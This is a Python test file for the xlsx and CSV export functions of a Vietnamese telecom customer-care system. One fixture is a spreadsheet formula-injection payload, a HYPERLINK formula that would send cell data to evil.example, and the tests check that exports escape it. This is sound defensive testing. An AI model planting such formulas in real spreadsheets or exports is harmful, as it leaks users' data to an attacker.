"""Export services over a real database: the regional workbook and care lists (xlsx, CSV)."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

import mbfcare
from mbfcare.domain.actors import Actor
from mbfcare.errors import NotFoundError, UsageError, ValidationError
from mbfcare.models import Batch, CareCase, Programme, Subscriber
from mbfcare.services import exporting
from mbfcare.services.exporting import export_care_list, export_regional, province_name
from mbfcare.uow import UnitOfWork

KT = Actor("Kiểm thử")  # who exports in these tests (an administrator)

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'

# msisdn, name, batch, state, group, district, store, province as stored, extra fields
CASES: list[tuple[str, str, int, str, int | None, str, str, str, dict[str, Any]]] = [
    ("0901234567", "Nguyễn Văn An", 1, "listed", 1, "Hồng Bàng", "", "Hải Phòng",
     {"handed_over_at": dt.datetime(2017, 3, 20, 20, 0, tzinfo=dt.UTC), "has_work": True}),
    ("0912345678", "Trần Thị Ánh", 1, "listed", 2, "Lê Chân", "CH Lê Chân", "TP. Hải Phòng",
     {"standardised": True}),
    ("0923456789", "Lê Bảo Anh", 1, "listed", 2, "Lê Chân", "CH Lê Chân", "Hải Phòng",
     {"subscriber_type": "postpaid"}),
    ("0934567890", "Phạm Đức", 1, "awaiting_group", None, "Hồng Bàng", "", "Hải Phòng",
     {"basis": 700000}),
    ("0945678901", INJECTED, 1, "listed", 1, "Ngô Quyền", "", "Hải Phòng", {}),
    ("0956789012", "Hoàng Dũng", 1, "waiting", 2, "Lê Chân", "CH Lê Chân", "Hải Phòng",
     {"waiting_rank": 1}),
    ("0967890123", "Vũ Thị Bình", 2, "listed", 1, "Hạ Long", "", "Tỉnh Quảng Ninh", {}),
    ("0978901234", "Đỗ Văn Cường", 2, "left_out", None, "Hạ Long", "", "Quảng Ninh",
     {"decision_note": "Không đủ điều kiện"}),
    ("0989012345", "Ngô Thị Hoa", 2, "listed", 2, "Hạ Long", "CH Hạ Long", "Quảng Ninh",
     {"decision_note": "+ đưa vào nhóm 2 theo quyết định"}),
]


def seed(factory: sessionmaker[Session], programme_id: int) -> None:
    """Care cases inserted directly (as classification would leave them), with subscribers."""
    with UnitOfWork(factory, write=True) as uow:
        batches = {b.number: b for b in uow.session.scalars(
            select(Batch).where(Batch.programme_id == programme_id))}
        for msisdn, name, number, state, group, district, store, province, extra in CASES:
            extra = dict(extra)
            sub = Subscriber(
                msisdn=msisdn, name=name, status="active", province=province,
                district=district, store=store or None, id_number="001086012345",
                subscriber_type=extra.pop("subscriber_type", "prepaid"),
                profile_standardised=extra.pop("standardised", None))
            uow.session.add(sub)
            uow.session.flush()
            batch = batches[number]
            y, m = batch.care_year, batch.care_month
            cycles = [(y * 12 + m - 1 - k) for k in (3, 4, 5)]
            basis = extra.pop("basis", 800000 if group == 1 else 600000)
            uow.session.add(CareCase(
                programme_id=programme_id, batch_id=batch.id, subscriber_id=sub.id,
                state=state, reason_code=state, group_number=group,
                delivery={1: "visit", 2: "store"}.get(group or 0),
                gift_type_number=group, basis=basis,
                cycle_1=cycles[0] // 12 * 100 + cycles[0] % 12 + 1,
                cycle_2=cycles[1] // 12 * 100 + cycles[1] % 12 + 1,
                cycle_3=cycles[2] // 12 * 100 + cycles[2] % 12 + 1,
                charge_1=basis, charge_2=basis + 10000, charge_3=basis + 25000,
                aggregation="every_cycle", rule_version=1, subscriber_type=sub.subscriber_type,
                subscriber_status="active", province=province, district=district,
                store=store or None, tenure_years=7, tenure_band="5–10 năm", **extra))
        uow.commit()


@pytest.fixture
def seeded(factory: sessionmaker[Session], programme_id: int) -> int:
    seed(factory, programme_id)
    return programme_id


def as_dicts(ws: Any) -> list[dict[str, Any]]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


# --------------------------------------------------------------------------- regional


def test_regional_export(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
    out = tmp_path / "kv5.xlsx"
    result = export_regional(factory, out, actor=Actor("Nguyễn Thu Hà"))
    assert result.file == str(out) and result.programme_id == seeded
    assert result.rows == {"ChiTiet": 8, "TongHop": result.rows["TongHop"], "KhoQua": 3,
                           "KhaoSat": 0, "ThongTin": result.rows["ThongTin"]}
    assert result.file_sha256 == hashlib.sha256(out.read_bytes()).hexdigest()
    data = result.to_json()
    assert data["rows"]["ChiTiet"] == 8 and data["sha256"] == result.sha256
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["ChiTiet", "TongHop", "KhoQua", "KhaoSat", "ThongTin"]
    rows = {r["Số thuê bao"]: r for r in as_dicts(wb["ChiTiet"])}
    assert "0978901234" not in rows  # left_out entries are not sent
    assert {r["Tỉnh/TP"] for r in rows.values()} == {"Hải Phòng", "Quảng Ninh"}
    assert rows["0934567890"]["Nhóm"] is None
    assert rows["0934567890"]["Kết quả"] == "Chờ quyết định nhóm"
    assert rows["0956789012"]["Ghi chú"] == "Danh sách chờ (thiếu quà), thứ tự 1"
    assert rows["0945678901"]["Họ tên"] == "'" + INJECTED
    assert rows["0989012345"]["Ghi chú"] == "'+ đưa vào nhóm 2 theo quyết định"
    assert rows["0912345678"]["Chuẩn hóa thông tin"] == "Đã chuẩn hóa"
    assert rows["0923456789"]["Loại thuê bao"] == "Trả sau"
    # 20:00 UTC on 20/03 is already 21/03 in Vietnam
    assert rows["0901234567"]["Ngày trao quà"] == dt.datetime(2017, 3, 21)
    assert rows["0901234567"]["Kết quả"] == "Đang thực hiện"
    assert rows["0901234567"]["Cước chu kỳ n-3"] == 800000
    info = dict(r for r in wb["ThongTin"].iter_rows(min_row=2, values_only=True))
    assert info["Chương trình"] == "Chăm sóc khách hàng năm 2017"
    assert info["Tỉnh/TP"] == "MobiFone KV5"  # no province set: the region
    assert info["SHA-256 ChiTiet"] == result.sha256
    assert info["Phiên bản phần mềm"] == mbfcare.__version__
    assert [info[f"Tháng chăm sóc đợt {k}"] for k in (1, 2, 3, 4)] == [
        "03/2017", "06/2017", "09/2017", "12/2017"]
    assert info["Người xuất"] == "Nguyễn Thu Hà"
    lines = [info["Chương trình"], info["Tỉnh/TP"]]
    for values in wb["ChiTiet"].iter_rows(min_row=2, values_only=True):
        lines.append("\t".join(
            "" if v is None else v.strftime("%d/%m/%Y") if isinstance(v, dt.datetime) else str(v)
            for v in values))
    assert hashlib.sha256("\n".join(lines).encode()).hexdigest() == result.sha256


def test_regional_uses_programme_province_and_reads_once(
    factory: sessionmaker[Session], seeded: int, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with UnitOfWork(factory, write=True) as uow:
        programme = uow.session.get(Programme, seeded)
        assert programme is not None
        programme.province = "Hải Phòng"
        uow.commit()
    opened: list[bool] = []

    class CountingUnitOfWork(UnitOfWork):
        def __enter__(self) -> CountingUnitOfWork:
            opened.append(self._write)
            return super().__enter__()

    monkeypatch.setattr(exporting, "UnitOfWork", CountingUnitOfWork)
    result = export_regional(factory, tmp_path / "hp.xlsx", programme_id=seeded, actor=KT)
    assert opened == [False]  # one read unit of work
    wb = openpyxl.load_workbook(tmp_path / "hp.xlsx")
    info = dict(r for r in wb["ThongTin"].iter_rows(min_row=2, values_only=True))
    assert info["Tỉnh/TP"] == "Hải Phòng"
    assert info["SHA-256 ChiTiet"] == result.sha256


def test_regional_without_care_list(
    factory: sessionmaker[Session], programme_id: int, tmp_path: Path
) -> None:
    result = export_regional(factory, tmp_path / "empty.xlsx", actor=KT)
    assert result.rows["ChiTiet"] == 0 and result.rows["TongHop"] == 1


def test_regional_errors(factory: sessionmaker[Session], tmp_path: Path) -> None:
    with pytest.raises(NotFoundError):
        export_regional(factory, tmp_path / "x.xlsx", actor=KT)
    with pytest.raises(UsageError):
        export_regional(factory, tmp_path / "x.csv", actor=KT)
    with pytest.raises(UsageError):
        export_regional(factory, tmp_path / "missing" / "x.xlsx", actor=KT)


def test_failed_export_leaves_the_old_file(
    factory: sessionmaker[Session], seeded: int, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "kv5.xlsx"
    out.write_bytes(b"old")

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(exporting, "write_regional", boom)
    with pytest.raises(RuntimeError):
        export_regional(factory, out, actor=KT)
    assert out.read_bytes() == b"old"
    assert [p.name for p in out.parent.iterdir()] == ["kv5.xlsx"]


@pytest.mark.parametrize(("stored", "shown"), [
    ("Hải Phòng", "Hải Phòng"), ("TP. Hải Phòng", "Hải Phòng"), ("TP Hải Phòng", "Hải Phòng"),
    ("Thành phố Hải Phòng", "Hải Phòng"), ("tỉnh quảng ninh", "Quảng Ninh"),
    ("Tỉnh Nam Định", "Nam Định"), (None, ""), ("hai phong", "Hải Phòng"),
])
def test_province_name(stored: str | None, shown: str) -> None:
    assert province_name(stored, ["Hải Phòng", "Quảng Ninh"]) == shown


# --------------------------------------------------------------------------- care lists

LIST_HEADERS = [
    "Đợt", "Số thuê bao", "Họ tên", "Nhóm", "Hình thức", "Quận/Huyện", "Cửa hàng", "Cước n-3",
    "Cước n-4", "Cước n-5", "Mức cước căn cứ", "Năm sử dụng", "Nhóm năm sử dụng", "Trạng thái",
]


def test_care_list_xlsx(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
    out = tmp_path / "ds.xlsx"
    result = export_care_list(factory, out, actor=KT)
    assert (result.rows, result.format, result.filters) == (9, "xlsx", {})
    ws = openpyxl.load_workbook(out).active
    assert ws is not None
    assert [c.value for c in ws[1]] == LIST_HEADERS
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:N10"
    rows = as_dicts(ws)
    assert [r["Số thuê bao"] for r in rows] == [
        "0901234567", "0945678901",  # batch 1, group 1: An, then the formula name
        "0923456789", "0912345678", "0956789012",  # group 2: Anh, Ánh, Dũng
        "0934567890",  # the gap case
        "0967890123", "0989012345",  # batch 2: Bình, Hoa
        "0978901234",  # left out (no group)
    ]
    by_number = {r["Số thuê bao"]: r for r in rows}
    assert by_number["0934567890"]["Trạng thái"] == "Chờ quyết định nhóm"
    assert by_number["0956789012"]["Trạng thái"] == "Danh sách chờ"
    assert by_number["0901234567"]["Trạng thái"] == "Trong danh sách"
    assert by_number["0978901234"]["Trạng thái"].startswith("Không chăm sóc")
    assert by_number["0945678901"]["Họ tên"] == "'" + INJECTED
    assert by_number["0912345678"]["Hình thức"] == "KH đến cửa hàng nhận"
    assert by_number["0912345678"]["Nhóm năm sử dụng"] == "5–10 năm"
    for r in range(2, ws.max_row + 1):
        assert isinstance(ws.cell(r, 2).value, str)
        for c in range(8, 12):
            assert type(ws.cell(r, c).value) is int and ws.cell(r, c).number_format == "#,##0"


def test_care_list_csv(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
    out = tmp_path / "ds.csv"
    result = export_care_list(factory, out, batch=1, group=2, actor=KT)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == LIST_HEADERS
    assert [r[2] for r in rows[1:]] == ["Lê Bảo Anh", "Trần Thị Ánh", "Hoàng Dũng"]
    assert result.rows == 3 and result.filters == {"batch": 1, "group": 2}
    assert rows[1][1] == "0923456789" and rows[1][10] == "600000"


def test_care_list_csv_injection_and_quoting(
    factory: sessionmaker[Session], seeded: int, tmp_path: Path
) -> None:
    out = tmp_path / "g1.csv"
    export_care_list(factory, out, batch=1, group=1, actor=KT)
    text = out.read_text(encoding="utf-8-sig")
    # the formula name is quoted (it holds commas and quotes) and starts with '
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"' in text
    for row in csv.reader(text.splitlines()):
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r"


def test_care_list_filters(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
    def numbers(**kw: Any) -> list[str]:
        out = tmp_path / "f.csv"
        export_care_list(factory, out, **kw, actor=KT)
        with out.open(encoding="utf-8-sig", newline="") as f:
            return [r[1] for r in list(csv.reader(f))[1:]]

    assert numbers(district="le chan") == ["0923456789", "0912345678", "0956789012"]
    assert numbers(district="Quận Lê Chân") == numbers(district="LÊ CHÂN")
    assert numbers(store="ch ha long") == ["0989012345"]
    assert numbers(batch=2, group=1) == ["0967890123"]
    assert numbers(district="Không có") == []


def test_care_list_errors(factory: sessionmaker[Session], seeded: int, tmp_path: Path) -> None:
    with pytest.raises(UsageError):
        export_care_list(factory, tmp_path / "ds.pdf", actor=KT)
    with pytest.raises(NotFoundError):
        export_care_list(factory, tmp_path / "ds.csv", batch=9, actor=KT)
    with pytest.raises(ValidationError):
        export_care_list(factory, tmp_path / "ds.csv", group=3, actor=KT)
    with pytest.raises(NotFoundError):
        export_care_list(factory, tmp_path / "ds.csv", programme_id=99, actor=KT)


def test_regional_workbook_shows_the_work_recorded(
        factory: sessionmaker[Session], programme_id: int, tmp_path: Path) -> None:
    from mbfcare.domain.actors import Actor
    from mbfcare.models import CareCase, SurveyResponse
    from mbfcare.services import care_work, stock
    from tests.care_data import GROUP1, GROUP2, STORE, seed_listed

    lan = Actor("Lan", "admin")
    g1, g2 = sorted(GROUP1), sorted(GROUP2)
    seed_listed(factory, programme_id)
    stock.move_stock(factory, "receive", "o-2-khuc", 5, actor=lan, location=STORE)
    stock.move_stock(factory, "receive", "balo-keo", 3, actor=lan)
    care_work.record_step(factory, g1[0], "sms", actor=lan, on=dt.date(2017, 3, 1))
    care_work.record_handover(factory, g1[0], actor=lan, on=dt.date(2017, 3, 4),
                              by="Trưởng MF Lê Chân")
    for step in ("data_check", "package_advice", "questions", "survey"):
        care_work.record_step(factory, g1[0], step, actor=lan, on=dt.date(2017, 3, 4),
                              value="MAX90" if step == "package_advice" else None)
    care_work.record_handover(factory, g2[0], actor=lan, item_code="o-2-khuc",
                              on=dt.date(2017, 3, 5), by="GDV Hà")
    care_work.record_outcome(factory, g2[1], "moved", actor=lan, note="vào TP HCM")
    with factory.begin() as session:
        case_id = session.scalar(select(CareCase.id).join(Subscriber).where(
            Subscriber.msisdn == g1[0]))
        assert case_id is not None
        session.add(SurveyResponse(care_case_id=case_id, form_version=1,
                                   answers={"overall": 5, "recommend": "Có"},
                                   answered_on=dt.date(2017, 3, 4)))
    out = tmp_path / "kv5.xlsx"
    export_regional(factory, out, actor=KT)
    book = openpyxl.load_workbook(out)
    sheet = book["ChiTiet"]
    headers = [c.value for c in sheet[1]]
    rows = {r[headers.index("Số thuê bao")]: dict(zip(headers, r, strict=True))
            for r in sheet.iter_rows(min_row=2, values_only=True)}
    visit = rows[g1[0]]
    assert visit["Quà đã trao"] == "Balo kéo du lịch"
    assert visit["Ngày trao quà"] == dt.datetime(2017, 3, 4)
    assert visit["Ngày gửi SMS"] == dt.datetime(2017, 3, 1)
    assert visit["Người trao quà"] == "Trưởng MF Lê Chân"
    assert visit["Đăng ký gói"] == "MAX90"
    assert (visit["Đã khảo sát"], visit["Điểm hài lòng"]) == ("Có", 5)
    assert visit["Kết quả"] == "Hoàn thành"
    visit_row = next(i for i, r in enumerate(sheet.iter_rows(values_only=True), start=1)
                     if r[headers.index("Số thuê bao")] == g1[0])
    assert sheet.cell(row=visit_row, column=headers.index("Ngày trao quà") + 1).number_format \
        == "dd/mm/yyyy"
    assert rows[g2[0]]["Kết quả"] == "Đang thực hiện"
    assert rows[g2[0]]["Quà đã trao"] == "Ô 2 khúc cầm tay"
    assert (rows[g2[1]]["Kết quả"], rows[g2[1]]["Ghi chú"]) == ("Chuyển đi", "vào TP HCM")
    assert rows[g2[2]]["Kết quả"] == "Chưa thực hiện"
    total = list(book["TongHop"].iter_rows(values_only=True))[-1]
    assert total[2] == "Tổng cộng"
    assert total[3:8] == (16, 1, 2, 1, 11)  # listed, sms, handed, surveyed, standardised
    stock_rows = list(book["KhoQua"].iter_rows(min_row=2, values_only=True))
    assert ("Quà loại 2", "Ô 2 khúc cầm tay", STORE, 5, 1, 4) in stock_rows
    assert ("Quà loại 1", "Balo kéo du lịch", "Kho", 3, 1, 2) in stock_rows
    assert ("Quà loại 2", "Hộp đựng thực phẩm hút chân không", "Kho", 0, 0, 0) in stock_rows
    survey = list(book["KhaoSat"].iter_rows(min_row=2, values_only=True))
    assert any(r[0].startswith("1. ") and r[1:] == ("5", 1, 1) for r in survey)
    assert any(r[1:] == ("Có", 1, 1) for r in survey)
